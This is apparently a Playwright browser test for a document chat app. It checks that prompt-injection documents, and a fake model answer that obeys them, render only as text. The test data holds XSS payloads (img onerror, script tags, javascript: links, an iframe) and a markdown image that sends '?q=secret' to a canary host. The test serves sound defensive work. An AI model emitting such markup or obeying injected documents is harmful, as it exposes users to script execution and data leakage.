"""The injection set in Chromium: every answer, source, name and title of it is looked at, and nothing but text comes of any."""

from __future__ import annotations

import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from typing import TYPE_CHECKING, Any

import pytest
from playwright.sync_api import expect

from db.documents import Document, Selection
from rag import conversation, library, own_questions
from rag.deps import Deps
from rag.names import clean_name
from rag.providers import BlockEnd, Text
from rag.providers.fake import FakeAnswerer
from tests import injections
from tests.browser.conftest import PATIENCE, ROOT
from tests.injections import NAMES, Attack
from tests.injections.attack import HOST

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page, Route

SUBJECT = "local"
ENOUGH = 30  # documents at least
TOGETHER = 6  # documents of a conversation, each with two questions: more are folded away
LISTED = 20  # documents at least on the first page of the library
LONG = 60  # characters of a text that are looked for

# All that a page holds, in and out of shadow roots: its text, the elements that could load or run something, and what ran.
LOOK = """() => {
  const found = { text: "", made: [], loads: [], flags: Object.keys(window).filter(name => name.startsWith("canary")), broken: window.broken }
  const attributes = ["src", "href", "xlink:href", "srcset", "action", "formaction", "data", "poster", "style", "background", "srcdoc", "content", "ping"]
  const look = (root) => {
    for (const node of root.childNodes) {
      if (node.nodeType === Node.TEXT_NODE && !["STYLE", "SCRIPT"].includes(root.nodeName)) found.text += node.data
      if (node.nodeType !== Node.ELEMENT_NODE) continue
      if (/^(iframe|object|embed|base|form|use)$/.test(node.localName) && !node.matches('form.vega-bindings') || /canary/i.test(node.id)) found.made.push(node.outerHTML.slice(0, 200))
      for (const { name, value } of node.attributes) {
        if (name.startsWith("on") || (attributes.includes(name) && /canary|javascript:/i.test(value))) found.loads.push(`${name}=${value}`.slice(0, 200))
      }
      look(node)
      if (node.shadowRoot) look(node.shadowRoot)
      found.text += "\\n"
    }
  }
  look(document)
  return found
}"""
LISTEN = """window.broken = []
document.addEventListener("securitypolicyviolation", (event) => window.broken.push(`${event.violatedDirective} ${event.blockedURI}`))"""


@dataclass
class Watch:
    """A window that is looked at after every step, and what it did that it should not have."""

    page: Page
    address: str
    elsewhere: list[str] = field(default_factory=list)  # requests that left for anywhere but the application
    dialogs: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.page.set_default_timeout(PATIENCE)
        self.page.add_init_script(LISTEN)
        self.page.context.route("**/*", self._pass)
        self.page.on("dialog", lambda dialog: (self.dialogs.append(dialog.message), dialog.dismiss()))
        self.page.on("pageerror", lambda error: self.errors.append(str(error)))

    def _pass(self, route: Route) -> None:
        if route.request.url.startswith((self.address, "data:", "blob:")):
            route.continue_()
        else:
            self.elsewhere.append(route.request.url)
            route.abort()

    def look(self) -> tuple[str, list[str]]:
        """All text on the page, without white space, and what is wrong with it."""
        seen: dict[str, Any] = self.page.evaluate(LOOK)
        faults = [*self.elsewhere, *self.dialogs, *seen["made"], *seen["loads"], *seen["flags"], *seen["broken"]]
        self.elsewhere.clear()
        self.dialogs.clear()
        return squashed(seen["text"]), faults


MARKS = dict.fromkeys(map(ord, "\ue000\ue001\ue002\ue003"))  # ours; a model's are taken out


def squashed(text: str) -> str:
    return "".join(text.replace("|", "").split())


@pytest.fixture(scope="module")
def window(browser: Browser, injected: Deps) -> Iterator[Watch]:
    """A window before the pages of the library that holds the set."""
    command = [sys.executable, "-m", "tests.browser.pages_process", injected.url, "quotes"]
    with subprocess.Popen(command, cwd=ROOT, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True) as server:
        assert server.stdout is not None
        address = server.stdout.readline().strip()
        context = browser.new_context(viewport={"width": 1380, "height": 900}, locale="en-GB")
        yield Watch(context.new_page(), address)
        context.close()
        server.kill()


@pytest.fixture(scope="module")
def documents(injected: Deps) -> dict[str, Document]:
    held = {document.filename: document for document in library.documents(injected, SUBJECT)}
    return {attack.name: held[clean_name(attack.filename)] for attack in injections.attacks()}


def obeying(attack: Attack) -> str:
    """What a model writes that does what the document wants, and more."""
    c = attack.canary
    return (
        f"{c.word}. {attack.said} ![p]({c.url}/p.png?q=secret) [click](javascript:window.{c.flag}=1) [go]({c.url}/go) <{c.url}/auto>\n\n"
        f'<img id="{c.id}" src="{c.url}/i" onerror="window.{c.flag}=1"> <script>window.{c.flag}=1</script> \ue0001\ue001 \ue00299\ue003\n\n'
        f"[1.1] [99.1] 【3.2】 $\\href{{javascript:window.{c.flag}=1}}{{x}}$ :material/home: :red[x]\n\n[r]: {c.url}/r\n\n![r] <iframe src={c.url}>"
    )


@pytest.fixture(scope="module")
def conversations(injected: Deps, documents: dict[str, Document]) -> list[tuple[int, list[Attack]]]:
    """Conversations about some documents each: for every one an answer of a model that obeys it, and one of its own sentences."""
    attacks, held = injections.attacks(), []
    for group in [attacks[start : start + TOGETHER] for start in range(0, len(attacks), TOGETHER)]:
        only, conversation_id = Selection(documents=tuple(documents[attack.name].id for attack in group)), None
        for attack in group:
            c = attack.canary
            question = f"![q]({c.url}/q) <img id={c.id} src=x onerror=window.{c.flag}=1> {c.question} [q](javascript:1) :red[x] $x$"
            model = replace(injected, answerers=(FakeAnswerer(script=(Text(text=obeying(attack)), BlockEnd())),))
            asked = finished(model, conversation.ask(model, SUBJECT, question, conversation_id=conversation_id, selection=only))
            conversation_id = asked.conversation_id
            finished(injected, conversation.ask(injected, SUBJECT, c.question, conversation_id=conversation_id))
        assert conversation_id is not None
        held.append((conversation_id, list(group)))
    return held


def finished(deps: Deps, message: conversation.Message) -> conversation.Message:
    until = time.monotonic() + 30
    while time.monotonic() < until:
        latest, _ = conversation.follow(deps, SUBJECT, message.id)
        assert latest is not None
        if latest.finished:
            assert latest.error == ""
            return latest
        time.sleep(0.02)
    pytest.fail("the answer did not end")


@pytest.fixture(scope="module")
def walked(window: Watch, conversations: list[tuple[int, list[Attack]]]) -> dict[str, list[str]]:
    """What got through, by document, after its conversation was opened and then the source of its own sentence."""
    through = {}
    for conversation_id, group in conversations:
        window.page.goto(f"{window.address}/chat?c={conversation_id}")
        answers = window.page.locator(".tree", has=window.page.locator(".question"))
        expect(answers).to_have_count(2 * len(group))
        for at, attack in enumerate(group):
            number = answers.nth(2 * at + 1).locator("button.cite").first
            number.hover()
            number.click()
            expect(window.page.locator("mark")).to_contain_text(attack.canary.place)
            text, faults = window.look()
            faults += [
                f"not shown as it stands: {shown}"
                for shown in (attack.said[:LONG], clean_name(attack.filename), attack.canary.word)
                if squashed(shown.translate(MARKS)) not in text
            ]
            through[attack.name] = faults
    return through


@pytest.mark.parametrize("name", NAMES)
def test_answers_and_sources_of_a_hostile_document_are_text(walked: dict[str, list[str]], name: str) -> None:
    assert walked[name] == []


def test_of_the_whole_set_nothing_got_through_to_a_page(
    walked: dict[str, list[str]], window: Watch, capsys: pytest.CaptureFixture[str]
) -> None:
    through = [name for name, faults in walked.items() if faults]
    with capsys.disabled():
        print(f"\n{len(walked)} hostile documents opened in Chromium, {len(through)} got through")  # noqa: T201 - the figure that is promised
    assert len(walked) >= ENOUGH
    assert through == []
    assert window.errors == []


def test_the_other_pages_show_the_set_as_text(injected: Deps, window: Watch, documents: dict[str, Document]) -> None:
    page, attacks = window.page, injections.attacks()
    for attack in attacks[-3:]:
        (chunk, *_) = library.chunks(injected, SUBJECT, documents[attack.name].id)
        own_questions.add(
            injected, SUBJECT, question=f"{attack.canary.question} ![e]({attack.canary.url}/e) <b id={attack.canary.id}>", document_id=chunk.document_id,
            ord_=chunk.ord, quote=chunk.text,
        )  # fmt: skip

    page.goto(f"{window.address}/documents")
    expect(page.locator("button.title").first).to_be_visible()
    text, faults = window.look()
    shown = [attack.filename for attack in attacks if squashed(clean_name(attack.filename)) in text]
    assert len(shown) >= LISTED
    assert faults == []
    for name in ("name-html", "name-markdown", "name-lines-and-parents"):
        title = clean_name(next(attack.filename for attack in attacks if attack.name == name)).rpartition("/")[2]
        page.goto(f"{window.address}/documents")
        page.locator("button.title", has_text=title[-30:]).first.click()
        page.locator(".sheet img[data-loaded]").first.wait_for()
        assert window.look()[1] == []

    page.goto(f"{window.address}/inspector?q=dues+of+the+harbour")
    expect(page.locator("table.stages")).to_be_visible()
    assert window.look()[1] == []
    page.locator("table.stages button").first.click()
    expect(page.locator(".passage").first).to_be_visible()
    assert window.look()[1] == []

    for path, sign in (("evaluation", attacks[-1].canary.place), ("usage", "Usage"), ("settings", "Settings"), ("chat", "")):
        page.goto(f"{window.address}/{path}")
        expect(page.locator("[data-testid=stApp]")).to_contain_text(sign)
        expect(page.locator("[data-testid=stStatusWidget]")).to_have_count(0)
        assert window.look()[1] == []


def test_the_canaries_would_have_been_seen(window: Watch) -> None:
    """The watch itself: what the set wants to happen is noticed when it happens."""
    window.page.goto(f"{window.address}/documents")
    window.page.evaluate(f"""() => {{
        const image = document.createElement("img"); image.id = "canary-00"; image.src = "http://c00.{HOST}/x"; document.body.append(image)
        window.canary00 = 1
    }}""")
    window.page.wait_for_function("window.broken.length > 0")
    _, faults = window.look()
    assert len(faults) >= 4  # the element, its address, the flag, and the refused request
